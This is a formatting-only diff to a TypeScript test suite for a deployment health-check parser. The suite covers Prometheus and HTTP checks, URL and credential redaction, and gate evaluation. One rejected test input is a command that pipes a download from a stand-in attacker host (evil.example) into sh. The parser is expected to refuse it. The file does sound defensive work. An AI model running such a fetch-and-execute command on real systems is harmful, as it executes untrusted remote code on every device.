@@ -27,15 +27,29 @@ describe('parseHealthCheck', () => {
     ['check: motd-present', { kind: 'named', name: 'motd-present' }],
     ['check:app.v2_ready', { kind: 'named', name: 'app.v2_ready' }],
     ['http: http://127.0.0.1:8080/healthz', { kind: 'http', url: 'http://127.0.0.1:8080/healthz' }],
-    ['http: https://status.example.com/api/ok?region=eu', { kind: 'http', url: 'https://status.example.com/api/ok?region=eu' }],
-    ['prometheus: max(wavegate_error_ratio) < 0.01', { kind: 'prometheus', query: 'max(wavegate_error_ratio)', op: '<', threshold: 0.01 }],
+    [
+      'http: https://status.example.com/api/ok?region=eu',
+      { kind: 'http', url: 'https://status.example.com/api/ok?region=eu' },
+    ],
+    [
+      'prometheus: max(wavegate_error_ratio) < 0.01',
+      { kind: 'prometheus', query: 'max(wavegate_error_ratio)', op: '<', threshold: 0.01 },
+    ],
     [
       'prometheus: sum(rate(http_requests_total{code=~"5.."}[5m])) / sum(rate(http_requests_total[5m])) <= 0.02',
-      { kind: 'prometheus', query: 'sum(rate(http_requests_total{code=~"5.."}[5m])) / sum(rate(http_requests_total[5m]))', op: '<=', threshold: 0.02 },
+      {
+        kind: 'prometheus',
+        query: 'sum(rate(http_requests_total{code=~"5.."}[5m])) / sum(rate(http_requests_total[5m]))',
+        op: '<=',
+        threshold: 0.02,
+      },
     ],
     // the LAST comparator is the threshold: the query keeps its own
     ['prometheus: count(up < 1) < 1', { kind: 'prometheus', query: 'count(up < 1)', op: '<', threshold: 1 }],
-    ['prometheus(http://prom.internal:9090): avg(x) < 3', { kind: 'prometheus', query: 'avg(x)', op: '<', threshold: 3, url: 'http://prom.internal:9090' }],
+    [
+      'prometheus(http://prom.internal:9090): avg(x) < 3',
+      { kind: 'prometheus', query: 'avg(x)', op: '<', threshold: 3, url: 'http://prom.internal:9090' },
+    ],
   ])('%j parses', (text, check) => {
     expect(parseHealthCheck(text)).toEqual({ ok: true, check });
   });
@@ -49,13 +63,19 @@ describe('parseHealthCheck', () => {
     ['error-rate > 0.01', /needs a comparison with a number/],
     ['error-rate < lots', /needs a comparison with a number/],
     ['error-rate < -0.1', /threshold -0.1, which must be a number >= 0/],
-    ['command: curl -fsS https://evil.example/x | sh', /runs an unsigned shell command on every device.*health\.checks.*"check: <name>"/],
+    [
+      'command: curl -fsS https://evil.example/x | sh',
+      /runs an unsigned shell command on every device.*health\.checks.*"check: <name>"/,
+    ],
     ['command: systemctl is-active my-agent', /runs an unsigned shell command/],
     ['command:', /runs an unsigned shell command/],
     ['check: ', /is not a check name/],
     ['check: two words', /is not a check name/],
     ['check: ../etc', /is not a check name/],
-    ['http: ftp://files.example.com/ok', /url "ftp:\/\/files.example.com\/ok", which must be an http:\/\/ or https:\/\/ url/],
+    [
+      'http: ftp://files.example.com/ok',
+      /url "ftp:\/\/files.example.com\/ok", which must be an http:\/\/ or https:\/\/ url/,
+    ],
     ['http: /healthz', /which must be an http/],
     ['http: http://a b', /without spaces/],
     ['http(x): http://a/b', /takes no argument/],
@@ -63,7 +83,10 @@ describe('parseHealthCheck', () => {
     ['prometheus: < 0.5', /needs a query and a threshold/],
     ['prometheus: up > 1', /needs a query and a threshold/],
     ['prometheus(prom:9090): up < 1', /Prometheus url "prom:9090"/],
-    ['http: https://bob@status.example.com/ok', /has a user:password@ in a url; secrets must not be written .* workflow history.*tokenEnv/],
+    [
+      'http: https://bob@status.example.com/ok',
+      /has a user:password@ in a url; secrets must not be written .* workflow history.*tokenEnv/,
+    ],
     ['prometheus(http://bob:pw@prom:9090): up < 1', /has a user:password@ in a url/],
     ['http: https://status.example.com/ok?access_token=bobsecret', /has a secret-named query parameter/],
     ['http: https://status.example.com/ok?region=eu&apiKey=bobsecret', /has a secret-named query parameter/],
@@ -76,12 +99,17 @@ describe('parseHealthCheck', () => {
     // every refusal names the text and lists what is allowed
     expect(parsed.message).toContain(JSON.stringify(redactUrl(text.trim())));
     expect(parsed.message).not.toMatch(/bob|:pw@/);
-    expect(parsed.message).toContain('allowed: devices-online, all-runtimes-healthy, check: <signed check name>, error-rate < <number>');
+    expect(parsed.message).toContain(
+      'allowed: devices-online, all-runtimes-healthy, check: <signed check name>, error-rate < <number>',
+    );
     expect(parsed.message).toContain('prometheus: <query> < <number>');
   });
 
   it('refuses text that is not a string', () => {
-    expect(parseHealthCheck(42 as unknown as string)).toMatchObject({ ok: false, message: expect.stringMatching(/^health check 42 must be text/) });
+    expect(parseHealthCheck(42 as unknown as string)).toMatchObject({
+      ok: false,
+      message: expect.stringMatching(/^health check 42 must be text/),
+    });
   });
 
   it('parseHealthGate collects every refusal with its index', () => {
@@ -98,7 +126,15 @@ describe('parseHealthCheck', () => {
   });
 
   it('formats a parsed check back to a text that parses to the same check', () => {
-    for (const text of ['devices-online', 'all-runtimes-healthy', 'error-rate <= 0.5', 'check: motd', 'http: http://h/x', 'prometheus: count(up < 1) < 1', 'prometheus(http://p:9090): up <= 2']) {
+    for (const text of [
+      'devices-online',
+      'all-runtimes-healthy',
+      'error-rate <= 0.5',
+      'check: motd',
+      'http: http://h/x',
+      'prometheus: count(up < 1) < 1',
+      'prometheus(http://p:9090): up <= 2',
+    ]) {
       const parsed = parseHealthCheck(text);
       if (!parsed.ok) throw new Error(parsed.message);
       expect(formatHealthCheck(parsed.check)).toBe(text);
@@ -110,18 +146,23 @@ describe('parseHealthCheck', () => {
 describe('redactUrl', () => {
   it('hides userinfo and every query value, keeps the names, the path and the fragment', () => {
     expect(redactUrl('https://bob:hunter2@prom.example.com:9090/x')).toBe('https://***@prom.example.com:9090/x');
-    expect(redactUrl('http://h/health?region=eu&access_token=abc123&apiKey=zz#frag')).toBe('http://h/health?region=***&access_token=***&apiKey=***#frag');
+    expect(redactUrl('http://h/health?region=eu&access_token=abc123&apiKey=zz#frag')).toBe(
+      'http://h/health?region=***&access_token=***&apiKey=***#frag',
+    );
     expect(redactUrl('http://127.0.0.1:8080/healthz')).toBe('http://127.0.0.1:8080/healthz');
     expect(formatHealthCheck({ kind: 'http', url: 'http://u:p@h/ok?token=s' })).toBe('http: http://***@h/ok?token=***');
   });
 
-  it('scrubCredentials hides urls\' secrets, secret-named values and arguments, and Authorization values inside any text', () => {
-    const text = 'curl -H "Authorization: Bearer tok-1" --token tok-2 https://u:tok-3@h/x?q=tok-4 password=tok-5 api_key: tok-6 exit 7';
+  it("scrubCredentials hides urls' secrets, secret-named values and arguments, and Authorization values inside any text", () => {
+    const text =
+      'curl -H "Authorization: Bearer tok-1" --token tok-2 https://u:tok-3@h/x?q=tok-4 password=tok-5 api_key: tok-6 exit 7';
     const scrubbed = scrubCredentials(text);
     expect(scrubbed).not.toMatch(/tok-\d/);
     expect(scrubbed).toContain('https://***@h/x?q=***');
     expect(scrubbed).toContain('exit 7');
-    expect(scrubCredentials('max error rate 0.2 (edge-02) over 4 devices is < 0.01')).toBe('max error rate 0.2 (edge-02) over 4 devices is < 0.01');
+    expect(scrubCredentials('max error rate 0.2 (edge-02) over 4 devices is < 0.01')).toBe(
+      'max error rate 0.2 (edge-02) over 4 devices is < 0.01',
+    );
   });
 
   it('inlineCredential names what makes a url or command carry a secret, and passes references and plain ones', () => {
@@ -131,7 +172,13 @@ describe('redactUrl', () => {
     expect(inlineCredential('curl -H "Authorization: Bearer abc" https://h/')).toMatch(/Authorization header/);
     expect(inlineCredential('my-agent --password hunter2 status')).toMatch(/argument/);
     expect(inlineCredential('my-agent --token=abc status')).toMatch(/argument/);
-    for (const plain of ['https://h/x?region=eu&monkey=1&author=me', 'sim-runtime-health motd', 'test -s "$HOME/etc/motd"', 'curl -fsS --token-file /etc/app/token https://h/ok', 'ssh-keygen --key-type ed25519']) {
+    for (const plain of [
+      'https://h/x?region=eu&monkey=1&author=me',
+      'sim-runtime-health motd',
+      'test -s "$HOME/etc/motd"',
+      'curl -fsS --token-file /etc/app/token https://h/ok',
+      'ssh-keygen --key-type ed25519',
+    ]) {
       expect(inlineCredential(plain), plain).toBeUndefined();
     }
   });
@@ -147,7 +194,12 @@ describe('meetsThreshold', () => {
 });
 
 describe('evaluateHealthGate', () => {
-  const r = (outcome: GateOutcome, check = `c-${outcome}`): CheckResult => ({ check, outcome, evidence: `${outcome} evidence`, durationMs: 1 });
+  const r = (outcome: GateOutcome, check = `c-${outcome}`): CheckResult => ({
+    check,
+    outcome,
+    evidence: `${outcome} evidence`,
+    durationMs: 1,
+  });
 
   it.each<[GateOutcome[], GateOutcome]>([
     [[], 'pass'],
@@ -164,7 +216,11 @@ describe('evaluateHealthGate', () => {
   });
 
   it('summarizes with the checks that decided the outcome', () => {
-    const gate = evaluateHealthGate([r('pass', 'devices-online'), r('fail', 'error-rate < 0.01'), r('inconclusive', 'http: http://h')]);
+    const gate = evaluateHealthGate([
+      r('pass', 'devices-online'),
+      r('fail', 'error-rate < 0.01'),
+      r('inconclusive', 'http: http://h'),
+    ]);
     expect(summarizeGate(gate)).toBe('fail: error-rate < 0.01 (fail evidence)');
     expect(summarizeGate(evaluateHealthGate([]))).toBe('pass: no health checks');
   });
@@ -204,11 +260,21 @@ describe('readPrometheusValue', () => {
   });
 
   it('reads a scalar', () => {
-    expect(readPrometheusValue({ status: 'success', data: { resultType: 'scalar', result: [1, '0.5'] } })).toEqual({ ok: true, value: 0.5, series: 1 });
+    expect(readPrometheusValue({ status: 'success', data: { resultType: 'scalar', result: [1, '0.5'] } })).toEqual({
+      ok: true,
+      value: 0.5,
+      series: 1,
+    });
   });
 
   it('takes the max over the series of a vector and names it', () => {
-    const read = readPrometheusValue(vector([{ __name__: 'x', instance: 'a' }, '0.1'], [{ __name__: 'x', instance: 'b' }, '0.3'], [{ __name__: 'x', instance: 'c' }, '0.2']));
+    const read = readPrometheusValue(
+      vector(
+        [{ __name__: 'x', instance: 'a' }, '0.1'],
+        [{ __name__: 'x', instance: 'b' }, '0.3'],
+        [{ __name__: 'x', instance: 'c' }, '0.2'],
+      ),
+    );
     expect(read).toEqual({ ok: true, value: 0.3, series: 3, label: 'x{instance="b"}' });
   });
 
@@ -218,10 +284,19 @@ describe('readPrometheusValue', () => {
 
   it.each<[unknown, RegExp]>([
     [null, /not a JSON object/],
-    [{ status: 'error', errorType: 'bad_data', error: 'parse error at char 5' }, /Prometheus says bad_data: parse error at char 5/],
+    [
+      { status: 'error', errorType: 'bad_data', error: 'parse error at char 5' },
+      /Prometheus says bad_data: parse error at char 5/,
+    ],
     [{ status: 'success', data: { resultType: 'vector', result: [] } }, /returned no series/],
-    [{ status: 'success', data: { resultType: 'matrix', result: [] } }, /result type "matrix" is not a scalar or an instant vector/],
-    [{ status: 'success', data: { resultType: 'vector', result: [{ metric: { __name__: 'x' }, value: [1, 'NaN'] }] } }, /series x\{\} has value .*not a number/],
+    [
+      { status: 'success', data: { resultType: 'matrix', result: [] } },
+      /result type "matrix" is not a scalar or an instant vector/,
+    ],
+    [
+      { status: 'success', data: { resultType: 'vector', result: [{ metric: { __name__: 'x' }, value: [1, 'NaN'] }] } },
+      /series x\{\} has value .*not a number/,
+    ],
   ])('%j cannot be judged (%s)', (json, why) => {
     const read = readPrometheusValue(json);
     expect(read.ok).toBe(false);
